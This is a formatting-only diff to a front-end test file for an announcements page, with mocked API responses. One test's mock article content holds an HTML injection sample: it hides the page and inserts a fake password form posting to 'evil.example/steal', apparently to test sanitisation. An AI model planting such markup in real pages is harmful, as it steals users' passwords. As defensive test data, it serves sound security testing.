@@ -90,14 +90,16 @@ describe('messages (/message)', () => {
     const { server } = await open()
     server.post('/api/Game/getOneclassArticle', () => ({
       code: 1,
-      data: [{
-        id: 8,
-        title_yw: 'Offer',
-        content_yw:
-          '<style>body{display:none}</style><p style="position:fixed">Read</p>' +
-          '<form action="https://evil.example/steal"><input name="pwd" type="password"><button>Log in</button></form>' +
-          '<a href="https://example.com/terms">terms</a>',
-      }],
+      data: [
+        {
+          id: 8,
+          title_yw: 'Offer',
+          content_yw:
+            '<style>body{display:none}</style><p style="position:fixed">Read</p>' +
+            '<form action="https://evil.example/steal"><input name="pwd" type="password"><button>Log in</button></form>' +
+            '<a href="https://example.com/terms">terms</a>',
+        },
+      ],
       info: 'ok',
     }))
     fireEvent.click(await screen.findByText('Announcements'))
@@ -122,7 +124,9 @@ describe('messages (/message)', () => {
     fireEvent.click(screen.getByText('Announcements'))
     const error = await screen.findByTestId('messages-error')
     expect(error.textContent).toContain('The server is not responding, please try again later')
-    server.post('/api/Game/getOneclassArticle', () => ({ code: 1, data: [{ id: 201, title_yw: 'Back again' }], info: 'ok' }), { timing: 200 })
+    server.post('/api/Game/getOneclassArticle', () => ({ code: 1, data: [{ id: 201, title_yw: 'Back again' }], info: 'ok' }), {
+      timing: 200,
+    })
     fireEvent.click(within(error).getByRole('button', { name: 'Try again' }))
     expect(await screen.findByTestId('messages-loading')).toBeTruthy()
     await waitFor(() => expect(screen.getByTestId('article-201').textContent).toBe('Back again'))
